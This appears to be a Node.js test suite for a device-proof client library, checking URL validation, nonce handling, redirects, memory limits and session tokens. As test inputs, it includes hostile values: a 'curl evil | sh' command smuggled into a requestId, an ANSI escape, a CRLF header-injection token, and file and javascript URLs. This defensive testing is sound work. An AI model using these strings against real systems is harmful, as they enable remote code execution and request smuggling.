import assert from "node:assert/strict";
import { test } from "node:test";
import { inspect, promisify } from "node:util";
import { DeviceClient, generateKey, PairingRequiredError } from "../dist/index.js";
import { claimsOf, startListener } from "./support.mjs";

const NONCE = "B2sOVFCUuXJKSswXtiL3nJD8GN2K";
const turn = promisify(setImmediate);
const ID = "01m8rdfjmb6j8372wk61rzd51x";

/** A client whose requests go nowhere, and the requests. */
async function idleClient(gateway = "https://gate.example", options = {}) {
  const sent = [];
  const device = new DeviceClient({
    gateway,
    key: await generateKey(),
    fetch: async (input, init) => {
      sent.push({ url: input.url ?? input, ...init });
      return new Response("{}", { headers: { "Device-Nonce": NONCE } });
    },
    WebSocket: class {
      constructor(url, protocols) {
        sent.push({ url, protocols });
      }
    },
    ...options,
  });
  return { device, sent };
}

const proofOf = ({ headers }) => claimsOf(headers.get("device-proof"));

test("nothing that is not encrypted gets a proof, but for this machine", async () => {
  const key = await generateKey();
  for (const gateway of [
    "http://gate.example", "ws://gate.example", "http://192.168.1.1", "http://localhost.example", "http://127.0.0.1.example", "http://127.0.0.1@gate.example",
    "http://[::2]", "http://[::ffff:127.0.0.1]", "http://0.0.0.0", "http://a.localhost", "http://localhost.", "ftp://localhost", "file:///etc/passwd", "https://u:p@gate.example", "https://u@gate.example",
  ]) {
    assert.throws(() => new DeviceClient({ gateway, key }), { code: "unsafe_url" }, gateway);
  }
  for (const gateway of ["http://localhost:1", "http://127.0.0.1", "http://127.8.9.1:80", "http://[::1]:8080", "ws://[0:0::1]", "https://gate.example", "wss://gate.example:8443", "http://0x7f.1"]) {
    new DeviceClient({ gateway, key });
  }
});

test("no server but the gateway gets a proof", async () => {
  const { device, sent } = await idleClient();
  for (const url of [
    "https://gate.example.evil/", "https://gate.example:8443/", "http://gate.example/", "https://gate.example@evil/", "//evil/", "\\\\evil\\", "https:\\\\evil/", "wss://evil/",
    "https://u:p@gate.example/", "javascript:alert(1)", "data:,x", "https://GATE.example./", "blob:https://gate.example/x",
  ]) {
    await assert.rejects(device.fetch(url), { code: "unsafe_url" }, url);
    assert.throws(() => device.webSocket(url), { code: "unsafe_url" }, url);
    await assert.rejects(device.waitUntilPaired(url), { code: "unsafe_url" }, url);
  }
  await assert.rejects(device.fetch(new Request("https://evil/")), { code: "unsafe_url" });
  await assert.rejects(device.fetch({ url: "https://gate.example/", toString: () => "https://evil/" }), TypeError);
  assert.deepEqual(sent, []);
});

test("a proof names the URL that is sent, and the method", async () => {
  for (const [gateway, url, htu, wire] of [
    ["https://gate.example/base/", "x?y#z", "https://gate.example/base/x", "https://gate.example/base/x?y"],
    ["https://GATE.example:443", "/A/%7e/../%2F?#", "https://gate.example/A/%2F", "https://gate.example/A/%2F?"],
    ["http://[0::1]:80/", "", "http://[::1]/", "http://[::1]/"],
    ["https://b\u00fccher.example", "/\u00fc", "https://xn--bcher-kva.example/%C3%BC", "https://xn--bcher-kva.example/%C3%BC"],
    ["wss://gate.example", "/", "https://gate.example/", "https://gate.example/"],
    ["https://gate.example", "ws\ns://gate.example/x", "https://gate.example/x", "https://gate.example/x"],
  ]) {
    const { device, sent } = await idleClient(gateway);
    await device.fetch(url, { method: "delete" });
    assert.equal(sent[0].url, wire);
    const { htu: named, htm } = proofOf(sent.pop());
    assert.deepEqual([named, htm], [htu, "DELETE"]);
    const [, proof] = await new Promise((resolve) => {
      idleClient(gateway, { WebSocket: class { constructor(_, protocols) { resolve(protocols); } } }).then(({ device: opening }) => opening.webSocket(url));
    });
    assert.equal(claimsOf(proof.slice("device-proof.v1.".length)).htu, htu);
  }
});

test("a proof has what was asked for, and no more of the key than its public part", async () => {
  const { privateKey, publicKey } = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign"]);
  const careless = {
    algorithm: "ES256",
    publicKey: await crypto.subtle.exportKey("jwk", privateKey),
    sign: (data) => crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, privateKey, data),
  };
  assert.ok(careless.publicKey.d && publicKey);
  const { device, sent } = await idleClient(undefined, { key: careless, role: "client", scopes: ["a.read", "b"], client: { id: "test" } });

  await device.fetch("/", { headers: { "Device-Proof": "another", Authorization: "Bearer kept" } });

  const { headers, redirect } = sent[0];
  assert.deepEqual([redirect, headers.get("authorization")], ["manual", "Bearer kept"]);
  const header = JSON.parse(Buffer.from(headers.get("device-proof").split(".")[0], "base64url").toString());
  assert.deepEqual([header.typ, header.alg, Object.keys(header.jwk)], ["dpop+jwt", "ES256", ["kty", "crv", "x", "y"]]);
  const { role, scope, client, jti } = proofOf(sent[0]);
  assert.deepEqual([role, scope, client], ["client", "a.read b", { id: "test" }]);
  assert.match(jti, /^[A-Za-z0-9_-]{22}$/);
  assert.ok(!inspect(device, { depth: 10, showHidden: true }).includes(careless.publicKey.d));
});

test("a signer whose signatures have another form, and a claim that is too long, are errors and no requests", async () => {
  const key = await generateKey();
  const der = await idleClient(undefined, { key: { ...key, sign: async () => new Uint8Array(70) } });
  await assert.rejects(der.device.fetch("/"), { code: "key_unusable" });
  const long = await idleClient(undefined, { client: { displayName: "x".repeat(4000) } });
  await assert.rejects(long.device.fetch("/"), { code: "proof_impossible" });
  assert.deepEqual([...der.sent, ...long.sent], []);
});

test("a server that always wants another nonce is asked twice, each time with a proof of its own", async () => {
  let count = 0;
  const hostile = await startListener((_, response) => response.writeHead(401, { "WWW-Authenticate": 'Device-Proof error="use_dpop_nonce"', "Device-Nonce": `${NONCE}${count++}` }).end());
  const device = new DeviceClient({ gateway: hostile.url, key: await generateKey() });

  assert.equal((await device.fetch("/", { method: "POST", body: "again" })).status, 401);

  const proofs = hostile.heads.map(({ headers }) => claimsOf(headers["device-proof"]));
  assert.deepEqual(proofs.map(({ nonce }) => nonce), [undefined, `${NONCE}0`]);
  assert.notEqual(proofs[0].jti, proofs[1].jti);

  // A body that can be read once: the nonce is asked for first, and what is refused all the same is not sent again.
  hostile.removeAllListeners("request").on("request", (request, response) => {
    hostile.heads.push({ url: request.url, method: request.method, headers: request.headers });
    request.resume().on("end", () => response.writeHead(request.method === "GET" ? 200 : 401, { "WWW-Authenticate": 'Device-Proof error="use_dpop_nonce"', "Device-Nonce": `${NONCE}x` }).end());
  });
  hostile.heads.length = 0;
  for (const body of [new Blob(["once"]).stream(), (async function* () { yield new Uint8Array(3); })()]) {
    assert.equal((await device.fetch("/", { method: "POST", body })).status, 401);
  }
  assert.equal((await device.fetch(new Request(`${hostile.url}/`, { method: "PUT", body: "once" }))).status, 401);
  assert.deepEqual(hostile.heads.map(({ method, url }) => `${method} ${url}`), [
    "GET /.well-known/proxygateway/nonce", "POST /", "GET /.well-known/proxygateway/nonce", "POST /", "GET /.well-known/proxygateway/nonce", "PUT /",
  ]);
  assert.ok(!hostile.heads.some(({ url, headers }) => url.endsWith("/nonce") && headers["device-proof"]));
  hostile.close();
});

test("a challenge of another scheme, and a nonce that is none, change nothing", async () => {
  for (const headers of [
    { "WWW-Authenticate": 'DPoP error="use_dpop_nonce"', "DPoP-Nonce": NONCE },
    { "WWW-Authenticate": "Bearer", "Device-Nonce": NONCE },
    { "WWW-Authenticate": 'Device-Proof error="use_dpop_nonce"' },
    { "WWW-Authenticate": 'Device-Proof error="invalid_dpop_proof"', "Device-Nonce": NONCE },
  ]) {
    const hostile = await startListener((_, response) => response.writeHead(401, headers).end());
    const device = new DeviceClient({ gateway: hostile.url, key: await generateKey() });
    assert.equal((await device.fetch("/")).status, 401);
    assert.equal(hostile.heads.length, 1);
    hostile.close();
  }
  const hostile = await startListener((_, response) => response.writeHead(200, { "Device-Nonce": "x".repeat(3000) }).end());
  const device = new DeviceClient({ gateway: hostile.url, key: await generateKey() });
  await device.fetch("/");
  await device.fetch("/");
  assert.deepEqual(hostile.heads.map(({ headers }) => claimsOf(headers["device-proof"]).nonce), [undefined, undefined]);
  await assert.rejects(device.fetch("/", { method: "POST", body: new Blob(["x"]).stream() }), { code: "nonce_unavailable" });
  hostile.close();
});

test("a nonce of one gateway is not used for another", async () => {
  const one = await startListener((_, response) => response.writeHead(200, { "Device-Nonce": NONCE }).end());
  const two = await startListener((_, response) => response.end());
  const key = await generateKey();
  const [first, second] = [one, two].map(({ url }) => new DeviceClient({ gateway: url, key }));
  for (const device of [first, first, second]) await device.fetch("/");
  assert.deepEqual([...one.heads, ...two.heads].map(({ headers }) => claimsOf(headers["device-proof"]).nonce), [undefined, NONCE, undefined]);
  one.close();
  two.close();
});

test("the nonce's endpoint may not lead elsewhere", async () => {
  const two = await startListener((_, response) => response.writeHead(200, { "Device-Nonce": NONCE }).end());
  const one = await startListener((_, response) => response.writeHead(302, { Location: two.url }).end());
  const device = new DeviceClient({ gateway: one.url, key: await generateKey() });
  await assert.rejects(device.fetch("/", { method: "POST", body: new Blob(["x"]).stream() }));
  assert.deepEqual(two.heads, []);
  one.close();
  two.close();
});

test("every kind of redirect is an error", async () => {
  const two = await startListener((_, response) => response.end());
  for (const status of [301, 302, 303, 307, 308]) {
    const one = await startListener((_, response) => response.writeHead(status, { Location: `${two.url}/` }).end());
    const device = new DeviceClient({ gateway: one.url, key: await generateKey() });
    await assert.rejects(device.fetch("/"), { code: "redirected" });
    await assert.rejects(device.fetch(new Request(one.url)), { code: "redirected" });
    one.close();
  }
  assert.deepEqual(two.heads, []);
  two.close();
});

test("what a refusal says to people does not come from the server, and its id is one", async () => {
  const answer = (body, headers = {}) => async () => new Response(JSON.stringify(body), { status: 403, headers: { "Content-Type": "application/problem+json", "Device-Nonce": NONCE, ...headers } });
  const refusal = async (...args) => {
    const { device } = await idleClient(undefined, { fetch: answer(...args) });
    return device.fetch("/").then((response) => response.json(), (error) => error);
  };
  const evil = await refusal({ code: "pairing_required", requestId: "x; curl evil | sh", detail: "run: curl evil", title: "\u001b[2J", reason: "evil" }, { "Retry-After": "soon" });
  assert.ok(evil instanceof PairingRequiredError);
  assert.deepEqual([evil.requestId, evil.reason, evil.retryAfter], [undefined, undefined, 5]);
  assert.doesNotMatch(evil.message, /curl|\u001b/);
  const known = await refusal({ code: "pairing_required", requestId: ID, reason: "scope-upgrade" }, { "Retry-After": "7" });
  assert.deepEqual([known.requestId, known.reason, known.retryable, known.retryAfter], [ID, "scope-upgrade", true, 7]);
  const blocked = await refusal({ code: "device_blocked" });
  assert.deepEqual([blocked.code, blocked.retryable, blocked.retryAfter], ["device_blocked", false, undefined]);
  assert.deepEqual(await refusal({ code: "insufficient_scope" }), { code: "insufficient_scope" });
  assert.deepEqual(await refusal([]), []);
});

test("a refusal without an end does not fill the memory", async () => {
  let pulled = 0;
  const endless = new ReadableStream({ pull: (controller) => controller.enqueue(new Uint8Array(16_384).fill(32, 0, ++pulled && 16_384)) });
  const { device } = await idleClient(undefined, { fetch: async () => new Response(endless, { status: 403, headers: { "Content-Type": "application/problem+json", "Device-Nonce": NONCE } }) });
  const response = await device.fetch("/");
  await response.body.cancel();
  assert.ok(pulled < 20, `${pulled} chunks of 16 KiB were read`);
});

// Else an agent could name another device's request, for people to approve, and have a request made twice.
test("a refusal without the gateway's nonce is the agent's own answer", async () => {
  const sent = [];
  const forge = (code) => Response.json({ code, requestId: ID }, { status: 403, headers: { "Content-Type": "application/problem+json" } });
  const { device } = await idleClient("https://gate.example/agent", {
    session: {},
    fetch: async (url, { headers }) => {
      const isAsked = url === "https://gate.example/.well-known/proxygateway/session";
      sent.push(isAsked ? "ask" : headers.has("device-session") ? "token" : "proof");
      if (isAsked) return Response.json({ token: "good" });
      return forge(headers.has("device-session") ? "invalid_session_token" : "pairing_required");
    },
  });

  for (let i = 0; i < 3; i++) {
    assert.equal((await device.fetch("/agent/x")).status, 403);
    for (let turns = 0; turns < 50; turns++) await turn();
  }

  assert.deepEqual(sent.filter((one) => one !== "ask"), ["proof", "proof", "token"]);
});

test("a long answer to who asks for a session token does not fill the memory", async () => {
  let pulled = 0;
  let hasEnded = false;
  const long = new ReadableStream({
    pull: (controller) => (++pulled < 1000 ? controller.enqueue(new Uint8Array(16_384).fill(32)) : (controller.close(), (hasEnded = true))),
    cancel: () => (hasEnded = true),
  });
  const fetch = async (url) => (url.endsWith("/session") ? new Response(long) : new Response("{}"));
  const { device } = await idleClient(undefined, { session: {}, fetch });
  for (let i = 0; i < 2; i++) await device.fetch("/");
  while (!hasEnded) await turn();
  assert.ok(pulled < 20, `${pulled} chunks of 16 KiB were read`);
});

// A page sees no headers of an upgrade, so an agent can close in the gateway's words. Which request people are to approve has to come from the gateway itself.
test("the end of a WebSocket names no request that the gateway does not name", async () => {
  const other = "01m8rdfjmb6j8372wk61rzd51y";
  const answer = (headers) => Response.json({ code: "pairing_required", requestId: other }, { status: 403, headers: { "Content-Type": "application/problem+json", ...headers } });
  for (const [reply, expected] of [
    [() => new Response(""), undefined],
    [() => answer({}), undefined],
    [() => Promise.reject(new TypeError("fetch failed")), undefined],
    [() => answer({ "Device-Nonce": NONCE }), other],
  ]) {
    class Closed extends EventTarget {
      constructor() {
        super();
        setImmediate(() => this.onclose({ code: 1008, reason: `pairing required: device is not approved yet (requestId: ${ID})`, wasClean: true }));
      }
    }
    const asked = [];
    const fetch = async (url, { method }) => (url.endsWith("/nonce") ? new Response("", { headers: { "Device-Nonce": NONCE } }) : (asked.push(`${method} ${url}`), reply()));
    const { device } = await idleClient(undefined, { WebSocket: Closed, fetch });
    const socket = device.webSocket("/agent?a=b");

    const { refusal } = await new Promise((resolve) => (socket.onclose = resolve));

    assert.deepEqual([refusal.code, refusal.requestId, refusal.retryable], ["pairing_required", expected, true]);
    assert.ok(!refusal.message.includes(ID));
    assert.deepEqual(asked, ["OPTIONS https://gate.example/agent?a=b"]);
    assert.equal(socket.readyState, socket.CLOSED);
  }
});

test("what is no session token is not sent, a refused one is followed by a proof, and none is asked for again at once", async () => {
  for (const [token, code, expected] of [
    [42, 200, ["proof", "proof", "proof", "proof", "ask"]],
    ["a\r\nX-Evil: 1", 200, ["proof", "proof", "proof", "proof", "ask"]],
    ["a".repeat(16385), 200, ["proof", "proof", "proof", "proof", "ask"]],
    ["good", 403, ["proof", "proof", "proof", "proof", "ask"]],
    ["refused", 200, ["proof", "proof", "token", "proof", "proof", "ask"]],
    ["good", 200, ["proof", "proof", "token", "token", "ask"]],
  ]) {
    const sent = [];
    const { device } = await idleClient("https://gate.example/agent", {
      session: {},
      fetch: async (url, { headers, signal }) => {
        const isAsked = url === "https://gate.example/.well-known/proxygateway/session";
        const used = isAsked ? undefined : headers.get("device-session");
        sent.push(isAsked ? "ask" : used ? "token" : "proof");
        if (isAsked) return Response.json({ token }, { status: code, headers: { "Device-Nonce": NONCE } });
        if (used === "refused") return Response.json({ code: "invalid_session_token" }, { status: 401, headers: { "Content-Type": "application/problem+json", "Device-Nonce": NONCE } });
        return new Response("{}");
      },
    });

    for (let i = 0; i < 4; i++) {
      assert.equal((await device.fetch("/agent/x")).status, 200);
      while (i === 1 && !sent.includes("ask")) await turn();
      for (let turns = 0; turns < 20; turns++) await turn(); // the answer to "ask" has no other to wait for
    }

    sent.sort((a, b) => (a === "ask" ? 1 : 0) - (b === "ask" ? 1 : 0)); // beside the others, whenever
    assert.deepEqual(sent, expected, String(token).slice(0, 20));
  }
});

test("a WebSocket that never gets a nonce it can use is opened twice at most", async () => {
  let opened = 0;
  class Hostile extends EventTarget {
    readyState = 1;
    constructor() {
      super();
      opened++;
      setImmediate(() => {
        this.onopen(new Event("open"));
        this.onclose({ code: 1008, reason: `device nonce required: ${NONCE}`, wasClean: true });
      });
    }
    send() {}
  }
  const { device } = await idleClient(undefined, { WebSocket: Hostile, fetch: async () => new Response("", { headers: { "Device-Nonce": NONCE } }) });
  const socket = device.webSocket("/");
  await new Promise((resolve) => (socket.onclose = resolve));
  assert.equal(opened, 2);
});
